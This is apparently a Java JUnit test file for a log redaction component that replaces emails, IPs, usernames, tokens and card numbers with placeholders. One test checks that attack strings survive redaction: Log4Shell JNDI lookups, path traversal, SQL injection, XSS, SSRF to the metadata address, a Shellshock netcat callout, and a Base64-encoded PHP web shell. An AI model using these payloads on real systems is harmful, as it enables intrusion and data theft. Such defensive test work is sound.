package dev.minga.node.redaction;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RedactorTest {
    private static final Redactor ALL = new Redactor(EnumSet.allOf(RedactionKind.class));

    private static String redacted(String text) {
        String once = ALL.redact(text).text();
        assertThat(ALL.redact(once)).as("redacted again").isEqualTo(new Redacted(once, Map.of()));
        return once;
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '`',
            value = {
                // Mail, also escaped, in other letters, with hidden characters and split by entities.
                "from jane.doe+x@corp.example.org to <bob@x.de> ~ from mail1@example.com to <mail2@example.com>",
                "a@b.org, A@B.ORG, c@d.org ~ mail1@example.com, mail1@example.com, mail2@example.com",
                "/?e=jane%40corp.org&x ~ /?e=mail1%40example.com&x",
                "/?e=jane%2540corp.org ~ /?e=mail1%2540example.com",
                "JaNe%40cOrP.oRg ~ mail1%40example.com",
                "jane&#64;corp.org jane&#x40;corp.org ~ mail1&#64;example.com mail1&#x40;example.com",
                "jane&commat;corp&period;org ~ mail1&commat;example.com",
                "ja<U+200B>ne@cor<U+200D>p.org ~ mail1@example.com",
                "ｊａｎｅ＠ｃｏｒｐ．ｏｒｇ ~ mail1＠example.com",
                "jane\\u0040corp.org jane\\x40corp.org ~ mail1\\u0040example.com mail1\\x40example.com",
                "müller@bücher.example ~ mail1@example.com",
                "no@mail, @nobody, a@b ~ no@mail, @nobody, a@b",
                // Machines.
                "10.1.2.3 8.8.8.8 10.1.2.3 192.168.7.7 172.20.1.1 ~ 10.0.0.1 198.18.0.1 10.0.0.1 192.168.0.1 172.16.0.1",
                "127.0.0.1 0.0.0.0 255.255.255.0 169.254.169.254 ~ 127.0.0.1 0.0.0.0 255.255.255.0 169.254.169.254",
                "at 8.8.8.8:53, 8.8.4.4. ~ at 198.18.0.1:53, 198.18.0.2.",
                "8%2E8%2E8%2E8 ８.８.８.８ ~ 198.18.0.1 198.18.0.1",
                "2a00:1450::1 fe80::a%25eth0 fd12::3 2A00:1450:0::1 ~ 2001:db8::1 fe80::1%25eth0 fd00::1 2001:db8::1",
                "::1 :: ::ffff:8.8.8.8 ::ffff:127.0.0.1 [2a00::7]:443 ~ ::1 :: ::ffff:198.18.0.1 ::ffff:127.0.0.1"
                        + " [2001:db8::1]:443",
                "12:34:56 aa:bb:cc:dd:ee:ff std::vector Foo::Bar ~ 12:34:56 aa:bb:cc:dd:ee:ff std::vector Foo::Bar",
                "http://3405803786/ http://0xcb00710a/ http://0313.0.0161.012/ ~ http://3323068417/ http://0xc6120001/"
                        + " http://0306.022.00.01/",
                "http://2130706433/ http://0x7f000001/ http://0177.0.0.1/ http://127.1/ ~ http://2130706433/"
                        + " http://0x7f000001/ http://0177.0.0.1/ http://127.1/",
                "2a00:1450:4001:81b::200e:54321 client:2a00::7 ip:2a00:1450::7 ~ 2001:db8::1:54321 client:2001:db8::2"
                        + " ip:2001:db8::3",
                "8.8.8.8.54321 > 2a00::7.443: ~ 198.18.0.1.54321 > 2001:db8::1.443:",
                "db01/10.1.2.3:5432 inside/8.8.8.8(1234) ~ db01/10.0.0.1:5432 inside/198.18.0.1(1234)",
                // Versions, identifiers and numbers that are no addresses.
                "Mozilla/5.0 YaBrowser/22.1.0.2 v1.2.3.4 Chrome/120.0.6099.109 1.2.3.4.5 999.1.1.1 ~ Mozilla/5.0"
                        + " YaBrowser/22.1.0.2 v1.2.3.4 Chrome/120.0.6099.109 1.2.3.4.5 999.1.1.1",
                "rv:1.9.2.8) version 1.2.3.4 (build 24.9.0.3) ~ rv:1.9.2.8) version 1.2.3.4 (build 24.9.0.3)",
                "/api/1.2.3.4/x ~ /api/198.18.0.1/x",
                // Users.
                "user=bob&x=1 USER=Bob ~ user=user1&x=1 USER=user1",
                "/home/jane/.ssh/id_rsa /Users/jane ~ /home/user1/.ssh/id_rsa /Users/user1",
                "C:\\Users\\jane.doe\\x.exe CORP\\jane.doe ~ C:\\Users\\user1\\x.exe CORP\\user1",
                "Failed password for invalid user oskar from 8.8.8.8 port 22 ~ Failed password for invalid user user1 from"
                        + " 198.18.0.1 port 22",
                "Failed password for root from ::1 ~ Failed password for root from ::1",
                "TargetUserName=ana SubjectUserName=DC1$ ~ TargetUserName=user1 SubjectUserName=user2",
                "HKLM\\Software C:\\Windows\\System32 /home/../etc ~ HKLM\\Software C:\\Windows\\System32 /home/../etc",
                // Tokens and keys.
                "Authorization: Bearer abc123DEF456 ~ Authorization: Bearer token1",
                "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl ~ token1",
                "Cookie: sid=a1b2c3d4; theme=dark&x ~ Cookie: sid=token1; theme=token2&x",
                "/?session_id=abcdef&api_key=123456&q=1 ~ /?session_id=token1&api_key=token2&q=1",
                "password=hunter2 pwd: s3cret ~ password=token1 pwd: token2",
                "Cookie: lang=en; x=; remember_me=alice-hunter; auth=hunter2hunter ~ Cookie: lang=en; x=; remember_me=token1;"
                        + " auth=token2",
                "{\\\"user\\\":\\\"alice\\\",\\\"password\\\":\\\"hunter2xyz\\\"} ~ {\\\"user\\\":\\\"user1\\\",\\\"password\\\":\\\"token1\\\"}",
                "https:\\/\\/bob:hunter22@h.example\\/x \\/home\\/alice ~ https:\\/\\/name1:token1@h.example\\/x \\/home\\/user1",
                "https://bob:hunter2@h.example/ ~ https://name1:token1@h.example/",
                "id 550e8400-e29b-41d4-a716-446655440000 ~ id token1",
                "x Zk3vQ9tR7wLp2NsB8yXc4MdH ~ x token1",
                "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 ~ sha256 token1",
                "AKIAIOSFODNN7EXAMPLE ghp_abcdefghijklmnopqrstuvwxyz0123456789 ~ AKIAkey1 ghp_key2",
                "-----BEGIN RSA PRIVATE KEY----- MIIB -----END RSA PRIVATE KEY----- x ~ -----BEGIN RSA PRIVATE KEY-----key1"
                        + "-----END RSA PRIVATE KEY----- x",
                "-----BEGIN PRIVATE KEY-----MIIBcut ~ -----BEGIN PRIVATE KEY-----key1",
                "a-very-long-hyphenated-word-list SomeVeryLongCamelCaseIdentifier /var/www/html/wordpress/index ~"
                        + " a-very-long-hyphenated-word-list SomeVeryLongCamelCaseIdentifier /var/www/html/wordpress/index",
                // Cards.
                "4111111111111111 4111 1111 1111 1111 5500-0000-0000-0004 ~ 0000000000000001 0000 0000 0000 0001"
                        + " 0000-0000-0000-0002",
                "4111%201111%201111%201111 ~ 0000%200000%200000%200001",
                "12 4111 1111 1111 1111 99 ~ 12 0000 0000 0000 0001 99",
                "4111111111111112 1234567890123452 0000000000000000 ~ 4111111111111112 1234567890123452"
                        + " 0000000000000000",
                "41111111111111111111111 ~ 41111111111111111111111",
            })
    void whatIsPrivateIsReplacedByItsForm(String text, String expected) {
        assertThat(redacted(text)).isEqualTo(expected);
    }

    /** What makes it an attack is left; of each the part that must stand in what comes out. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '`',
            value = {
                "${jndi:ldap://203.0.113.7:1389/a} ~ ${jndi:ldap://198.18.0.1:1389/a}",
                "${${lower:j}ndi:${::-l}dap://x.example/a} ~ ${${lower:j}ndi:${::-l}dap://x.example/a}",
                "GET /../../../../etc/passwd ~ GET /../../../../etc/passwd",
                "GET /%2e%2e/%2e%2e/etc/passwd ~ GET /%2e%2e/%2e%2e/etc/passwd",
                "/?user=bob' OR '1'='1&password=x'-- ~ /?user=user1' OR '1'='1&password=x'--",
                "/?user=1' OR '1'='1 ~ /?user=1' OR '1'='1",
                "/?token=../../boot.ini ~ /?token=../../boot.ini",
                "/?id=1 UNION SELECT password,user FROM users-- ~ UNION SELECT password,user FROM users--",
                "<script>alert(document.cookie)</script> ~ <script>alert(document.cookie)</script>",
                "http://169.254.169.254/latest/meta-data/ ~ http://169.254.169.254/latest/meta-data/",
                "gopher://127.0.0.1:6379/_FLUSHALL ~ gopher://127.0.0.1:6379/_FLUSHALL",
                "http://good.example@8.8.8.8/ ~ @198.18.0.1/",
                "() { :;}; /bin/bash -c 'nc 8.8.8.8 4444' ~ () { :;}; /bin/bash -c 'nc 198.18.0.1 4444'",
                "${jndi:ldap://203.0.113.7:1389/Basic/Command/Base64/d2hvYW1pID4gL3RtcC94} ~"
                        + " ${jndi:ldap://198.18.0.1:1389/Basic/Command/Base64/d2hvYW1pID4gL3RtcC94}",
                "${jndi:ldap://203.0.113.7:389/LegitimateJavaClass} ~ 198.18.0.1:389/LegitimateJavaClass}",
                "sqlmap/1.0-dev-nongit-20150909 bash_cve_2014_6271_rce ~ sqlmap/1.0-dev-nongit-20150909 bash_cve_2014_6271_rce",
                "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA ~ AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
                "/?z=-----BEGIN%20PRIVATE%20KEY-----&f=../../etc/passwd&q=${jndi:ldap://e/a} ~"
                        + " &f=../../etc/passwd&q=${jndi:ldap://e/a}",
                "-----BEGIN PRIVATE KEY-----/etc/passwd () { :;}; /bin/bash ~ /etc/passwd () { :;}; /bin/bash",
                "GET /basic%20=/../../../etc/passwd ~ /../../../etc/passwd",
                "Cookie: a=b HTTP/1.1 q='%20union%20select ~ q='%20union%20select",
                "0x3c736372697074203e616c6572742831293c2f7363726970743e ~ 0x3c736372697074203e616c6572742831293c2f7363726970743e",
            })
    void anAttackStaysOne(String text, String left) {
        assertThat(redacted(text)).contains(left);
    }

    @Test
    void textInBase64StaysAndIsRedactedInThere() {
        String attack = encoded("<?php system($_GET['cmd']); ?>");
        assertThat(redacted("/?x=" + attack)).isEqualTo("/?x=" + attack);
        assertThat(redacted("/?x=" + encoded("mail jane@corp.example now")))
                .isEqualTo("/?x=" + encoded("mail mail1@example.com now"));
        String wide = Base64.getEncoder().encodeToString("connect 203.0.113.9:80".getBytes(StandardCharsets.UTF_16LE));
        assertThat(new String(
                        Base64.getDecoder()
                                .decode(redacted("powershell -enc " + wide).substring(16)),
                        StandardCharsets.UTF_16LE))
                .isEqualTo("connect 198.18.0.1:80");
        assertThat(ALL.redact("/?x=" + encoded("mail jane@corp.example now")).counts())
                .isEqualTo(Map.of(RedactionKind.EMAIL, 1));
    }

    private static String encoded(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void namesThatTheRecordItselfGivesAreReplacedWhereverTheyStand() {
        assertThat(ALL.redact("session of jdoe (JDoe) on jdoes-pc", List.of("CORP\\jdoe", "-", "root"))
                        .text())
                .isEqualTo("session of user1 (user1) on jdoes-pc");
        assertThat(ALL.redact("by root", List.of("root")).text()).isEqualTo("by root");
        assertThat(ALL.redact("Jane Doe signed in", List.of("Jane Doe")).text()).isEqualTo("user1 signed in");
    }

    /** Who asks says who it is, before anybody checked. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../../etc/passwd",
                "union select",
                "UNION",
                "${jndi:ldap",
                "<script>alert(1)</script>",
                "' or '1'='1",
                "/bin/bash"
            })
    void anAttackThatIsAUsersNameStays(String user) {
        String text = "GET /?x=" + user + " HTTP/1.1";
        assertThat(ALL.redact(text, List.of(user)).text()).isEqualTo(text);
    }

    @Test
    void placesAreCountedByKindAndOnlyTheKindsThatAreAskedForReplaced() {
        String text = "a@b.org 8.8.8.8 8.8.8.8 127.0.0.1 user=bob sid=abcdef 4111111111111111 AKIAIOSFODNN7EXAMPLE";
        assertThat(ALL.redact(text).counts())
                .isEqualTo(Map.of(
                        RedactionKind.EMAIL, 1,
                        RedactionKind.IP, 2,
                        RedactionKind.USER, 1,
                        RedactionKind.TOKEN, 1,
                        RedactionKind.CARD, 1,
                        RedactionKind.KEY, 1));
        assertThat(new Redactor(Set.of(RedactionKind.EMAIL)).redact(text).text())
                .isEqualTo(text.replace("a@b.org", "mail1@example.com"));
        assertThat(Redactor.NONE.redact(text)).isEqualTo(new Redacted(text, Map.of()));
    }

    @Test
    void numbersBeginAnewInEachText() {
        assertThat(ALL.redact("9.9.9.9").text()).isEqualTo(ALL.redact("8.8.8.8").text());
    }

    /** Pieces that are private, that look so, and that break forms, thrown together. */
    @ParameterizedTest
    @ValueSource(ints = {1, 2, 3, 4})
    void redactingAgainChangesNothing(int seed) {
        String[] pieces = {
            "a@b.org",
            "%40",
            "8.8.8.8",
            "10.1.1.1",
            ".",
            "::",
            "fe80::1",
            "user=",
            "bob",
            "/home/",
            "C:\\Users\\",
            "token=",
            "Bearer ",
            "4111 1111 1111 1111",
            "4111111111111111",
            "AKIAIOSFODNN7EXAMPLE",
            "sk-",
            "Zk3vQ9tR7wLp2NsB8yXc4MdH",
            "YUBiLm9yZyBhbmQgYy5kQGUuZnI=",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x1",
            "http://",
            "0x7f000001",
            "3405803786",
            "@",
            " ",
            "\"",
            "'",
            "&#64;",
            "%2",
            "5",
            "<U+200B>",
            "ü",
            "-----BEGIN PRIVATE KEY-----",
            "-----END",
            "/",
            "=",
            "Cookie: ",
            "sid=abcdef",
            ";",
            "mail1@example.com",
            "198.18.0.1",
            "user1",
            "token2",
            "key1",
            "550e8400-e29b-41d4-a716-446655440000"
        };
        Random random = new Random(seed);
        for (int i = 0; i < 1_000; i++) {
            StringBuilder text = new StringBuilder();
            for (int length = 1 + random.nextInt(12); length > 0; length--) {
                text.append(pieces[random.nextInt(pieces.length)]);
            }
            String once = ALL.redact(text.toString()).text();
            assertThat(ALL.redact(once)).as("seed %s, text %s", seed, text).isEqualTo(new Redacted(once, Map.of()));
        }
    }

    /** Would take hours with an engine that backtracks. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "a",
                "@",
                "a@",
                "a.",
                "1.",
                "1",
                "%",
                "%4",
                ":",
                "a:",
                "user=",
                "=",
                "-",
                "eyJ",
                "/~",
                "A\\",
                "x=y;",
                "1 1",
                "cookie=a=bbbb;",
                "cookie=;"
            })
    void longHostileLinesAreRead(String piece) {
        String text = piece.repeat(64_000 / piece.length());
        assertThat(ALL.redact(text).text()).isNotEmpty();
        assertThat(ALL.redact("Cookie: password=" + text + "@").text()).isNotEmpty();
    }
}
